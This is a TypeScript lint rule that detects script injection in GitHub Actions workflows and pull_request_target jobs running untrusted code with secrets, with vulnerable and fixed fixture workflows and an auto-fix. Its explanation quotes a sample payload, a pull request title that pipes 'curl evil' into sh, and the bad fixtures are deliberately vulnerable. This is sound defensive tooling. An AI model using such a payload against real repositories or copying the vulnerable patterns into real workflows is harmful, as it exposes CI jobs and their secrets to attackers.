import type { Workflow, WorkflowStep } from '../documents/workflow.ts';
import type { Facts } from '../facts/facts.ts';
import type { Draft, LineEdit, Rule } from '../finding.ts';

const workflow = (on: string, step: string) => ({
  '.github/workflows/label.yml': `on: ${on}\npermissions: {}\njobs:\n  label:\n    runs-on: ubuntu-24.04\n    steps:\n${step}\n`,
});

export const workflowNoInjection: Rule = {
  id: 'workflow-no-injection',
  family: 9,
  severity: 'error',
  title: 'Text of strangers is put into a script',
  why: 'GitHub pastes the expression into the script before the shell reads it: a pull request titled `"; curl evil | sh; "` runs in your job.',
  fix: 'Pass it through the environment: `env: TITLE: ${{ … }}`, and write "$TITLE" in the script.',
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  bad: [
    {
      name: 'a title',
      files: workflow('issues', '      - run: echo "${{ github.event.issue.title }}"'),
    },
    {
      name: 'a branch name',
      files: workflow(
        'pull_request',
        '      - run: |\n          git fetch\n          git checkout ${{ github.head_ref }}',
      ),
    },
    {
      name: 'in a script of JavaScript',
      files: workflow(
        'issue_comment',
        '      - uses: actions/github-script@v8\n        with:\n          script: |\n            console.log(`${{ github.event.comment.body }}`)',
      ),
    },
    {
      name: 'strangers’ code with one’s own secrets',
      files: workflow(
        'pull_request_target',
        '      - uses: actions/checkout@v5\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test',
      ),
    },
  ],
  good: [
    {
      name: 'through the environment',
      files: workflow(
        'issues',
        '      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"',
      ),
    },
    {
      name: 'a number',
      files: workflow(
        'pull_request',
        '      - run: gh pr view ${{ github.event.pull_request.number }}',
      ),
    },
    {
      name: 'nothing of strangers in a push',
      files: workflow('workflow_dispatch', '      - run: git checkout ${{ github.head_ref }}'),
    },
  ],
  *check(facts): Generator<Draft> {
    for (const workflow of facts.workflows)
      for (const { steps, condition } of workflow.jobs)
        for (const step of steps) {
          yield* pasted(workflow, { step, facts });
          yield* strangersCode(workflow, { step, steps, condition });
        }
  },
};

const strangers =
  /github\.(?:event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review(?:_comment)?\.body|discussion\.(?:title|body)|pages\[?[^}]*page_name|commits\[?[^}]*message|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.message))|head_ref)\b/;

const givenBy: readonly (readonly [RegExp, readonly string[]])[] = [
  [/issue\./, ['issues', 'issue_comment']],
  [
    /pull_request\.|head_ref/,
    [
      'pull_request',
      'pull_request_target',
      'pull_request_review',
      'pull_request_review_comment',
      'issue_comment',
    ],
  ],
  [
    /comment\.body/,
    ['issue_comment', 'pull_request_review_comment', 'discussion_comment', 'commit_comment'],
  ],
  [/review/, ['pull_request_review']],
  [/discussion\./, ['discussion', 'discussion_comment']],
  [/workflow_run/, ['workflow_run']],
  [/pages/, ['gollum']],
];

/** A push is made by somebody who may push already: his message is no stranger's. */
function canBeGiven(
  { file, kind, events }: Workflow,
  { expression, facts }: { expression: string; facts: Facts },
): boolean {
  const given = givenBy.find(([form]) => form.test(expression))?.[1] ?? [];
  if (kind === 'workflow')
    return events.has('workflow_call') || given.some((name) => events.has(name));
  const folder = `./${file.replace(/\/?action\.ya?ml$/, '')}`;
  const users = facts.workflows.filter(({ jobs }) =>
    jobs.some(({ steps }) => steps.some(({ uses }) => uses?.name.replace(/\/$/, '') === folder)),
  );
  // An action that nobody here uses is made for others, whatever triggers them.
  return (
    users.length === 0 ||
    users.some((user) => user.kind === 'action' || given.some((name) => user.events.has(name)))
  );
}

function* pasted(
  workflow: Workflow,
  { step, facts }: { step: WorkflowStep; facts: Facts },
): Generator<Draft> {
  const script =
    step.uses && /^actions\/github-script@/.test(step.uses.name)
      ? step.with.get('script')
      : undefined;
  const texts = [
    ...(step.run ? [{ text: step.run.text, line: step.run.line, isShell: true }] : []),
    ...(script ? [{ text: script.value, line: script.textLine, isShell: false }] : []),
  ];
  for (const { text, line, isShell } of texts)
    for (const match of text.matchAll(/\$\{\{([^}]*)\}\}/g)) {
      const expression = match[1]!;
      const input = /\binputs\.([\w-]+)/.exec(expression)?.[1];
      const given = input === undefined ? undefined : handedIn(workflow, { input, facts });
      if (given && !isOnlyCompared(expression)) {
        const at = line + (text.slice(0, match.index).match(/\n/g)?.length ?? 0);
        const message = `inputs.${input} is pasted into the script, and ${given.file} hands in ${given.value}, which strangers write`;
        const related = [{ file: given.file, line: given.line, message: 'hands it in' }];
        yield { file: workflow.file, line: at, message, related };
        continue;
      }
      const value = strangers.exec(expression)?.[0];
      if (
        !value ||
        !canBeGiven(workflow, { expression: value, facts }) ||
        isOnlyCompared(expression)
      )
        continue;
      const at = line + (text.slice(0, match.index).match(/\n/g)?.length ?? 0);
      const edit = isShell
        ? throughEnvironment(workflow.file, { step, match: match[0], value, line: at, facts })
        : undefined;
      yield {
        file: workflow.file,
        line: at,
        message: `${value} is written by strangers, and pasted into the script`,
        edit,
      };
    }
}

/** What a caller puts into an input of a composite action or reusable workflow, where strangers write it. */
function handedIn(
  { file, kind }: Workflow,
  { input, facts }: { input: string; facts: Facts },
): { file: string; line: number; value: string } | undefined {
  const called = kind === 'action' ? `./${file.replace(/\/?action\.ya?ml$/, '')}` : `./${file}`;
  for (const caller of facts.workflows)
    for (const call of caller.jobs.flatMap((job) => [job, ...job.steps])) {
      const handed = call.with.get(input);
      if (!handed || call.uses?.name.replace(/\/$/, '') !== called) continue;
      const inside = /^\s*\$\{\{([^}]*)\}\}\s*$/.exec(handed.value)?.[1] ?? '';
      const value = strangers.exec(handed.value)?.[0];
      if (!value || isOnlyCompared(inside)) continue;
      if (canBeGiven(caller, { expression: value, facts }))
        return { file: caller.file, line: handed.line, value };
    }
  return undefined;
}

/** `contains(github.head_ref, 'x')` and a comparison yield true or false, whatever the text. */
function isOnlyCompared(expression: string): boolean {
  return (
    /^\s*!?\s*(contains|startsWith|endsWith)\s*\([^)]*\)\s*$/.test(expression) ||
    (/[^=!]==[^=]|!=/.test(expression) && !/&&|\|\|/.test(expression))
  );
}

/** Only the plainest form is mended by a program: a block script, one expression, no env yet. */
function throughEnvironment(
  file: string,
  {
    step,
    match,
    value,
    line,
    facts,
  }: { step: WorkflowStep; match: string; value: string; line: number; facts: Facts },
): LineEdit | undefined {
  const lines = facts.repository.lines(file);
  const runLine = step.run!.line - 1;
  const head = lines[runLine - 1] ?? '';
  const indent = /^(\s*)(- )?run:\s*\|[-+]?\s*$/.exec(head);
  if (!indent || step.env.size > 0 || step.run!.text.split('${{').length !== 2) return undefined;
  const count = line - runLine + 1;
  const block = lines.slice(runLine - 1, runLine - 1 + count);
  const last = block.at(-1)!;
  // Inside single quotes a variable would not be put in.
  if (last.includes("'") || !last.includes(match) || /<<|["]\$\{\{.*["].*["]/.test(last))
    return undefined;
  const name = value.split('.').at(-1)!.replace(/\W/g, '_').toUpperCase();
  const inQuotes = (last.slice(0, last.indexOf(match)).match(/"/g)?.length ?? 0) % 2 === 1;
  const keys = `${indent[1]}${indent[2] ?? ''}`;
  const below = ' '.repeat(keys.length);
  const mended = last.replace(match, inQuotes ? `$${`{${name}}`}` : `"$${name}"`);
  return {
    file,
    line: runLine,
    count,
    lines: [
      `${keys}env:`,
      `${below}  ${name}: ${match}`,
      `${below}run: |`,
      ...block.slice(1, -1),
      mended,
    ],
  };
}

function* strangersCode(
  { file, events }: Workflow,
  {
    step,
    steps,
    condition,
  }: { step: WorkflowStep; steps: readonly WorkflowStep[]; condition?: string },
): Generator<Draft> {
  if (!events.has('pull_request_target') && !events.has('workflow_run')) return;
  if (!/^actions\/checkout@/.test(step.uses?.name ?? '')) return;
  const reference = step.with.get('ref');
  if (
    !reference ||
    !/head\.(sha|ref)|head_ref|refs\/pull\/|workflow_run\.head_(sha|branch)/.test(reference.value)
  )
    return;
  if (
    /label|author_association|head\.repo\.full_name|head_repository|\.fork|event_name|actor|conclusion|merged/.test(
      `${condition ?? ''} ${step.condition ?? ''} ${reference.value}`,
    )
  )
    return;
  const runs = steps
    .slice(steps.indexOf(step) + 1)
    .find(
      ({ run }) =>
        run &&
        /\b(npm|yarn|pnpm|bun|pip|uv|poetry|make|cargo|go|mvn|gradle|gradlew|bundle|composer|docker|python|node|\.\/)\b/.test(
          run.text,
        ),
    );
  if (runs)
    yield {
      file,
      line: reference.line,
      message:
        'code of a stranger’s pull request is checked out and run with this repository’s secrets',
      related: [{ file, line: runs.line, message: 'runs it' }],
      fix: 'Use `pull_request`, or split the job in two: one that runs the code without secrets, one that has secrets and runs nothing of it.',
    };
}
